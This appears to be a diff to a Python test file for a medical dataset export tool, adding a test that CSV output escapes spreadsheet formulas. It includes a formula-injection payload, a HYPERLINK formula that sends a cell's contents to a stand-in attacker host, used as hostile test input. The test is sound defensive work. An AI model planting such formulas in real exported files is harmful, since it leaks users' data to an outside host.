@@ -16,7 +16,7 @@ from rdflib.compare import isomorphic
 
 from medkg.export import FORMATS, ExportError, croissant, export, schemaorg
 from medkg.export.context import load_context
-from medkg.export.records import Concept, DatasetRecord, SourceList, read_catalogue
+from medkg.export.records import Concept, Count, DatasetRecord, SourceList, read_catalogue
 from medkg.namespaces import Namespaces
 from medkg.store import open_read_only
 
@@ -291,3 +291,23 @@ def test_a_short_list_description_is_followed_by_the_dataset_facts() -> None:
     assert 50 <= len(text) <= 5000
     assert text.startswith("Brain. ADNI: a medical imaging dataset (")
     assert "magnetic resonance imaging; brain" in text and text.endswith("Listed in: Lists.")
+
+
+def test_csv_keeps_hostile_text_and_never_a_formula(out_dir: Path) -> None:
+    """Quotes, commas and line breaks round-trip (RFC 4180); a cell a spreadsheet would run as a
+    formula (a list's title "=HYPERLINK(...)") starts with an apostrophe instead."""
+    from medkg.export.table import write_csv
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    record = DatasetRecord(
+        f"{BASE}dataset/x", title, alt_names=[title, '@SUM(1+1)', 'a "quoted",\nname'],
+        counts=[Count("-1", "cases", "-1 cases", "alpha")],
+    )  # fmt: skip
+    path = write_csv([record], out_dir / "hostile.csv", quiet=True)
+    assert path.read_bytes().count(b"\r\n") == 2  # header and the row; the inner \n is quoted
+    with path.open(encoding="utf-8", newline="") as handle:
+        (row,) = csv.DictReader(handle)
+    assert row["title"] == "'" + title
+    assert row["alt_names"] == "'@SUM(1+1) | a \"quoted\",\nname"
+    assert row["counts"] == "'-1 cases (alpha)"
+    assert row["iri"] == f"{BASE}dataset/x"
